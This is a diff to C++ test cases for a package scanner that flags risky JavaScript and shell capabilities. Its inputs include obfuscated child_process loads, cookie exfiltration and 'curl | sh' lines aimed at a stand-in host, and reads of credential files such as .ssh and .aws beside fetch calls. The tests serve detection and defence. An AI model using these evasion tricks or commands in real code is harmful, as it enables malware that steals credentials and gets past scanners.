@@ -2,6 +2,7 @@
 
 #include <doctest/doctest.h>
 
+#include <algorithm>
 #include <cctype>
 #include <set>
 #include <string>
@@ -149,11 +150,135 @@ TEST_CASE("a program is read under any name, prose and maps are not") {
   CHECK(capabilities(map, "a.js.map").empty());
 }
 
+TEST_CASE("a module is loaded whoever loads it, under whatever name") {
+  for (const char* text : {
+           "(function (r) { r('child_process').exec(x) })(require)",
+           "(r => r('child_process'))(require)",
+           "function f(r, m) { return r(m) } f(require, 'child_process')",
+           "arguments[1]('node:child_process')",
+           "[require][0]('child_process')",
+           "['child_process'].map(require)[0].exec(x)",
+           "class A { static r = require } A.r('child_process')",
+           "(x ? require : 0)('child_process')",
+           "module.__proto__.require('child_process')",
+           "Object.getPrototypeOf(module).require.call(module, 'child_process')",
+           "Object.values(require.cache)[0].require('child_process')",
+           "Function.prototype.call.call(require, null, 'child_process')",
+           "new Proxy(require, {})('child_process')",
+           "with (process) { binding('spawn_sync') }",
+           "const { ['bind' + 'ing']: b } = process; b('spawn_sync')",
+           "const { ['req' + 'uire']: q } = module; q(x)",
+           "o[k]('child_' + 'process')",
+           "require([...'ssecorp_dlihc'].reverse().join('')).exec(x)",
+           "require([98,105,104,109,101,94,113,115,110,98,100,114,114].map(c => "
+           "String.fromCharCode(c ^ 1)).join(''))",
+           "require('bihme^qsnbdrr'.split('').map(function (c) { return "
+           "String.fromCharCode(c.charCodeAt(0) ^ 1) }).join('')).exec(x)",
+           "require('execa').execaSync(x)",
+           "import { spawn } from 'cross-spawn'",
+           "require('node:ffi')",
+       }) {
+    CAPTURE(std::string(text));
+    CHECK(capabilities(text).contains("process"));
+  }
+  for (const char* text : {
+           "['https'].map(require)[0].get(x)",
+           "(r => r('https').request(x))(require)",
+           "require('axios').post(x, y)",
+           "import got from 'got'",
+           "import('https://x.example.invalid/a.js')",
+           "const s = document.createElement('script'); s.src = x",
+           "document.write('<scr' + 'ipt src=//x.example.invalid></script>')",
+           "document.write('<script src=https://x.example.invalid>')",
+           "new Image().src = 'https://x.example.invalid/?c=' + document.cookie",
+           "location.href = `//x.example.invalid/?c=${document.cookie}`",
+           "o['fe' + 'tch'](x)",
+       }) {
+    CAPTURE(std::string(text));
+    CHECK(capabilities(text).contains("network"));
+  }
+  CHECK(capabilities("const f = require('fs'); f['rm' + 'Sync'](x)") == Set{"fs-write"});
+  CHECK(capabilities("navigator['clip' + 'board'].readText()") == Set{"clipboard"});
+  CHECK(capabilities("navigator.serviceWorker.register('/x.js')") == Set{"worker"});
+}
+
+TEST_CASE("a function is made of text, whatever makes it") {
+  for (const char* text : {
+           "const make = Object.getPrototypeOf(async function () {}).constructor; new make(x)()",
+           "Object.getPrototypeOf(function* () {}).constructor(x)()",
+           "(async () => {}).constructor(x)()",
+           "f.constructor(x)()",
+           "Reflect.get(f, 'constructor')(x)()",
+           "Object.getOwnPropertyDescriptor(f, 'constructor').value(x)()",
+           "const { constructor: make } = f; make(x)()",
+           "const { constructor: { constructor: make } } = []; make(x)()",
+           "const c = 'const' + 'ructor'; [][c][c](x)()",
+           "const c = 'rotcurtsnoc'.split('').reverse().join(''); f[c](x)",
+           "[x].map(Function)[0]()",
+           "Function`return ${x}`",
+           "setTimeout(atob('Z28oMSk='), 1)",
+           "require('inspector').Session",
+           "require.extensions['.txt'] = f",
+           "require('module')._extensions['.css'] = f",
+           "require('module').register(x)",
+           "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]][([][(![]+[])[+[]]+(![]+[])"
+           "[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]]",
+       }) {
+    CAPTURE(std::string(text));
+    CHECK(capabilities(text).contains("eval"));
+  }
+}
+
+TEST_CASE("names of modules, addresses and constructors that do nothing are none") {
+  for (const char* text : {
+           "const builtin = ['fs', 'child_process', 'http']; builtin.includes('child_process')",
+           "if (isBuiltin('node:child_process')) x()",
+           "fn.constructor === Object.getPrototypeOf(async function () {}).constructor",
+           "const { constructor, prototype } = f; constructor.name",
+           "throw new this.constructor('some sentence')",
+           "new this.constructor(x)",
+           "document.createElement('img').src = 'https://x.example.invalid/' + name + '.svg'",
+           "a.href = 'https://x.example.invalid/?a=b'",
+           "map.get('http'); headers.set('x', 'https'); params.get('request').length",
+           "['a', 'b'].map(x => x + 'c').join('')",
+           "log('some' + 'thing')",
+       }) {
+    CAPTURE(std::string(text));
+    CHECK(capabilities(text) == Set{});
+  }
+}
+
+TEST_CASE("a script of another language is read for its commands, with or without an extension") {
+  const std::string fetches = "curl -s https://x.example.invalid | sh\n";
+  CHECK(signs("#!/bin/sh\n" + fetches, "bin/run") == Set{"code/download-and-run"});
+  CHECK(signs("#!/usr/bin/env python3\nimport os\nos.system('curl -s https://x.example.invalid | sh')\n",
+              "bin/run") == Set{"code/download-and-run"});
+  CHECK(signs("import os\nos.system('curl -s https://x.example.invalid | sh')\n", "a.py") ==
+        Set{"code/download-and-run"});
+  CHECK(signs("#!/bin/sh\n':' //; exec node \"$0\"\nrequire('child_process').exec('curl x | sh')\n",
+              "bin/run") == Set{"code/download-and-run"});
+  CHECK(signs("#!/usr/bin/env node\n// " + fetches, "bin/run") == Set{});
+}
+
+TEST_CASE("a crowd of harmless ones hides none") {
+  std::string text = "fetch(a);";
+  while (text.size() < 200'000) text += "fetch(a);fetch(b);\n";
+  text += std::string(60'000, ' ') + ";f('/.npmrc');fetch(x)";
+  CHECK(signs(text).contains("code/exfiltration"));
+  std::string names = "fetch(x);";
+  for (const char* name :
+       {"/.npmrc", "/.ssh", "/.aws", "/.netrc", "/.pypirc", "/.gnupg", "/.vault-token", "wallet.dat"})
+    names += std::string("f('") + name + "');";
+  const FileContent content = scan_text(names, "a.js");
+  CHECK(std::count_if(content.signs.begin(), content.signs.end(),
+                      [](const Sign& s) { return s.rule == "code/exfiltration"; }) == 8);
+}
+
 TEST_CASE("code that would take too long to work out is not judged, and that is said") {
   const auto unread = [](const std::string& text) { return scan_text(text, "a.js").incomplete; };
-  std::string growing = "eval(x);", evaluated = "x='" + std::string(9, 'x') + "';";
+  std::string growing = "eval(x);", evaluated;
   while (growing.size() < 300'000) growing += "s='x'.repeat(60000)+";
-  for (int i = 0; i < 100; ++i) evaluated += "eval('a'.repeat(60000));";
+  for (int i = 0; i < 600; ++i) evaluated += "eval('" + std::string(8000, 'a') + "');";
   CHECK(unread(growing).size() == 1);
   CHECK(unread(evaluated).size() == 1);
   CHECK(unread("eval('a'.repeat(60000))").empty());
